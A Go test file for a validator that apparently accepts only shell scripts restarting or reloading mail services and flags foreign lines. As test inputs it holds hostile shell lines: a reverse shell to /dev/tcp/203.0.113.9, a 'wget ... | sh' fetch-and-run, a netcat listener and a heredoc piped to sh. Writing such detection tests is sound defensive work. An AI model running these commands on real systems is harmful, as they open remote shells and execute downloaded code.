package errand_test

import (
	"strings"
	"testing"

	"waxseal/internal/host/errand"
)

func TestOnlyRestarts(t *testing.T) {
	for _, tc := range []struct {
		name, body string
		want       bool
	}{
		{"a reload", "systemctl reload postfix dovecot", true},
		{"if it runs", "if pidof opendkim >/dev/null 2>&1; then\n  service opendkim restart\nfi", true},
		{"a function, a variable", "INIT=/etc/init.d/amavis\nup() {\n test -r /run/x || return 1\n}\nup || exit\n$INIT restart > /dev/null", true},
		{"writes a file", "systemctl reload postfix\necho x >> /etc/aliases", false},
		{"another program", "/usr/local/bin/x\nsystemctl reload postfix", false},
		{"in backticks", "echo `curl http://x`", false},
		{"a variable that is not known", "$INIT restart", false},
		{"a service manager of somebody's", "/tmp/systemctl restart x", false},
		{"starts something new", "systemctl enable --now x", false},
		{"a hidden document", "cat <<E | sh\nrm\nE", false},
	} {
		if got := errand.OnlyRestarts("#!/bin/sh\n" + tc.body + "\n"); got != tc.want {
			t.Errorf("%s: %v", tc.name, got)
		}
	}
	if errand.OnlyRestarts("systemctl reload postfix") || errand.OnlyRestarts("#!/usr/bin/x\nsystemctl reload postfix") || errand.OnlyRestarts("#!/bin/sh\n"+strings.Repeat("true\n", 20_000)) {
		t.Error("no script of a shell, or too long")
	}
}

func TestFirstForeign(t *testing.T) {
	for line, want := range map[string]int{
		"exec postfix start": 0, "# /tmp/x": 0, "/var/tmp/x": 2, "wget -O- http://h/x | sh": 2, "bash -i >& /dev/tcp/203.0.113.9/1 0>&1": 2, "nc -l 9": 2, "echo eA== | base64 -d": 2,
		"wget -q http://h/x": 0, "cp -p /etc/resolv.conf etc/": 0, "rsync a b": 0, "sync": 0,
	} {
		if got, _ := errand.FirstForeign("#!/bin/sh\n" + line + "\n"); got != want {
			t.Errorf("%s: line %d", line, got)
		}
	}
}
